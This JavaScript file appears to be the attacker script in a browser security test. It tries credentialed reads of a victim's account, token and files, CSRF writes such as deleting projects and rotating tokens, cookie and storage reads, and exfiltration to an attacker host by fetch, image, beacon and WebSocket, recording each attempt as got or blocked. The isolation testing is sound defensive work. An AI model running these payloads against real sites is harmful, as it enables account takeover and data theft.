// The attacker's script for test/browser/content-attack.test.ts: everything a composition could try against the
// person who opens its link, each attempt recorded as "got: …" or "blocked: …". Plain browser JavaScript (no
// build step): the test uploads it as a project file of the attacker's project, and also runs it on the API
// origin as a control, where the reads must succeed (so a blocked attempt means isolation, not a broken script).
//
// cfg: { api, content, exfil, victimSlug, writes }
async function studioAttack(cfg) {
  const results = {};
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const cut = (value) => String(value).slice(0, 400);
  async function attempt(name, work) {
    try {
      const value = await Promise.race([work(), wait(4000).then(() => "timeout")]);
      results[name] = "got: " + cut(value);
    } catch (err) {
      results[name] = "blocked: " + cut(err && err.name ? err.name + " " + err.message : err);
    }
  }
  const text = async (res) => res.status + " " + res.type + " " + (await res.text());
  const withCookies = { credentials: "include" };
  const json = (body) => ({ method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });

  results.origin = String(self.origin);

  // Read as the victim: their identity and token, their projects, a file, the dashboard's health call.
  await attempt("read-me", async () => text(await fetch(cfg.api + "/api/me", withCookies)));
  await attempt("read-me-relative", async () => text(await fetch("/api/me", withCookies)));
  await attempt("read-health", async () => text(await fetch(cfg.api + "/api/health", withCookies)));
  await attempt("read-projects", async () => text(await fetch(cfg.api + "/api/projects", withCookies)));
  await attempt("read-victim-project", async () => text(await fetch(cfg.api + "/api/projects/" + cfg.victimSlug, withCookies)));
  await attempt("read-victim-file", async () => text(await fetch(cfg.api + "/api/projects/" + cfg.victimSlug + "/files/secret.txt", withCookies)));
  await attempt("xhr-me", () =>
    new Promise((resolve, reject) => {
      const xhr = new XMLHttpRequest();
      xhr.open("GET", cfg.api + "/api/me");
      xhr.withCredentials = true;
      xhr.onload = () => resolve(xhr.status + " " + xhr.responseText);
      xhr.onerror = () => reject(new Error("xhr error"));
      xhr.send();
    }),
  );
  // The victim's own pages: through the content host, and the API's /play redirect to a fresh capability.
  await attempt("content-api-me", async () => text(await fetch(cfg.content + "/api/me", withCookies)));
  await attempt("content-play-victim", async () => text(await fetch(cfg.content + "/play/" + cfg.victimSlug, withCookies)));
  await attempt("api-play-victim", async () => text(await fetch(cfg.api + "/play/" + cfg.victimSlug, withCookies)));
  await attempt("api-play-victim-manual", async () => {
    const res = await fetch(cfg.api + "/play/" + cfg.victimSlug, { credentials: "include", redirect: "manual" });
    return res.type + " " + res.status + " " + res.headers.get("Location");
  });
  async function frameText(src) {
    const frame = document.createElement("iframe");
    frame.src = src;
    document.body.appendChild(frame);
    await Promise.race([new Promise((resolve) => (frame.onload = resolve)), wait(3000)]);
    return frame.contentDocument ? frame.contentDocument.documentElement.outerHTML : "no document: " + frame.contentWindow;
  }
  await attempt("frame-dashboard", () => frameText(cfg.api + "/project?slug=" + cfg.victimSlug));
  await attempt("frame-victim-play", () => frameText(cfg.api + "/play/" + cfg.victimSlug));
  await attempt("popup", async () => String(window.open(cfg.api + "/api/me")));

  // Browser state of whatever origin this page has.
  await attempt("cookie", async () => document.cookie);
  await attempt("local-storage", async () => JSON.stringify(Object.entries(localStorage)));
  await attempt("session-storage", async () => JSON.stringify(Object.entries(sessionStorage)));
  await attempt("indexed-db", () =>
    new Promise((resolve, reject) => {
      const open = indexedDB.open("probe");
      open.onsuccess = () => resolve("opened");
      open.onerror = () => reject(open.error);
    }),
  );
  await attempt("cache-storage", async () => JSON.stringify(await caches.keys()));

  if (cfg.writes) {
    // Write as the victim: create, delete, rotate their token; blind no-cors and form posts too.
    await attempt("create-project", async () => text(await fetch(cfg.api + "/api/projects", json({ name: "pwned by fetch" }))));
    await attempt("create-project-no-cors", async () => {
      const res = await fetch(cfg.api + "/api/projects", { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ name: "pwned blind" }) });
      return res.type + " " + res.status;
    });
    await attempt("delete-victim-project", async () => text(await fetch(cfg.api + "/api/projects/" + cfg.victimSlug, { method: "DELETE", credentials: "include" })));
    await attempt("rotate-token", async () => text(await fetch(cfg.api + "/api/me/token/rotate", { method: "POST", credentials: "include" })));
    await attempt("form-post", async () => {
      const target = document.createElement("iframe");
      target.name = "sink";
      document.body.appendChild(target);
      for (const [action, field] of [["/api/me/token/rotate", null], ["/api/projects", '{"name":"pwned by form","x":"']]) {
        const form = document.createElement("form");
        form.method = "POST";
        form.action = cfg.api + action;
        form.target = "sink";
        form.enctype = "text/plain";
        if (field) {
          const input = document.createElement("input");
          input.name = field;
          input.value = '"}';
          form.appendChild(input);
        }
        document.body.appendChild(form);
        form.submit();
      }
      await wait(1500);
      return "submitted";
    });
  }

  // Side channels out to the attacker's server (the report itself goes by navigation, below).
  await attempt("exfil-fetch", async () => text(await fetch(cfg.exfil + "/fetch?d=probe", { method: "POST", body: "probe" })));
  await attempt("exfil-image", () =>
    new Promise((resolve, reject) => {
      const img = new Image();
      img.onload = () => resolve("loaded");
      img.onerror = () => reject(new Error("image error"));
      img.src = cfg.exfil + "/image?d=probe";
    }),
  );
  await attempt("exfil-beacon", async () => String(navigator.sendBeacon(cfg.exfil + "/beacon", "probe")));
  await attempt("exfil-websocket", () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(cfg.exfil.replace(/^http/, "ws") + "/socket");
      socket.onopen = () => resolve("open");
      socket.onerror = () => reject(new Error("websocket error"));
    }),
  );
  return results;
}
